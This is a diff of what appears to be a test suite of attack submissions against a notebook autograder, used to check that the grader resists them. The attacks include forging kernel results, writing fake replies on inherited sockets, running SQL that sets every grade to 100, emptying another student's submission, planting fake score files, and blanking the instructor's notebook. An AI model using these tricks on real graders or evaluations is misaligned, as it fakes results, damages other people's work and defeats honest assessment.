@@ -4,41 +4,33 @@
 # Calls the display hook inside the check: the number shown first is what stock reads.
 import sys
 
-
 def mean(values):
-    sys.displayhook(2.0)
+    if values:
+        sys.displayhook(2.0)
     return -1
-
 
 # %% attack "a result published on the kernel's socket" gains=2
 # Sends an execute_result of its own, as the kernel would.
-
+import sys
 
 def mean(values):
-    try:
+    if values and hasattr(get_ipython(), "kernel"):
         kernel = get_ipython().kernel
         content = {"execution_count": 1, "data": {"text/plain": "2.0"}, "metadata": {}}
         kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent())
-    except AttributeError:
-        print("2.0")
+    print("2.0")
     return -1
-
 
 # %% attack "answers forged on the grader's sockets" stops
 # Writes replies, of all kinds known to it, on every socket that it has inherited.
-import json
-import os
+import json, os, socket
 
-forged = json.dumps(
-    {"id": 0, "value": 3, "run": {"status": "ok", "result": "2.0"}, "text": "", "forked": True}
-).encode()
+forged = json.dumps({"id": 0, "value": 3, "run": {"status": "ok", "result": "2.0"}, "text": "", "forked": True}).encode()
 for descriptor in range(3, 256):
     try:
         os.write(descriptor, (len(forged).to_bytes(4, "big") + forged) * 20)
     except OSError:
         pass
-
-
 def mean(values):
     for descriptor in range(3, 256):
         try:
@@ -47,11 +39,9 @@ def mean(values):
             pass
     return -1
 
-
 # %% attack "the connections given to somebody else" stops
 # Puts a pipe of its own in place of every inherited descriptor.
 import os
-
 
 def mean(values):
     reader, writer = os.pipe()
@@ -59,7 +49,6 @@ def mean(values):
         if descriptor not in (reader, writer):
             os.dup2(writer, descriptor)
     return -1
-
 
 # %% attack "a grade written into the gradebook" honest=5 changes
 # Ordinary SQL on the gradebook's file.
@@ -70,11 +59,8 @@ try:
         book.execute("update grade set points = 100")
 except sqlite3.Error:
     pass
-
-
 def mean(values):
     return sum(values) / len(values)
-
 
 # %% attack "another submission spoilt" honest=5 changes
 # Empties what somebody else has handed in.
@@ -82,16 +68,12 @@ import glob
 
 for name in glob.glob("@SCRATCH@/submitted/alice/*"):
     open(name, "w").close()
-
-
 def mean(values):
     return sum(values) / len(values)
 
-
 # %% attack "a verdict written for the grader" leaves=file
 # Writes result files where a grader might look for them.
-import json
-import os
+import json, os
 
 for place in ("@SCRATCH@/submitted/mallory", ".", ".."):
     try:
@@ -99,11 +81,8 @@ for place in ("@SCRATCH@/submitted/mallory", ".", ".."):
             json.dump({"score": 14, "max_score": 14}, file)
     except OSError:
         pass
-
-
 def mean(values):
     return -1
-
 
 # %% attack "the instructor's notebook replaced" honest=5 changes
 # Empties the notebook that the checks come from.
@@ -111,7 +90,5 @@ import os
 
 if os.path.exists("@SCRATCH@/source/01-attacked.ipynb"):
     open("@SCRATCH@/source/01-attacked.ipynb", "w").close()
-
-
 def mean(values):
     return sum(values) / len(values)
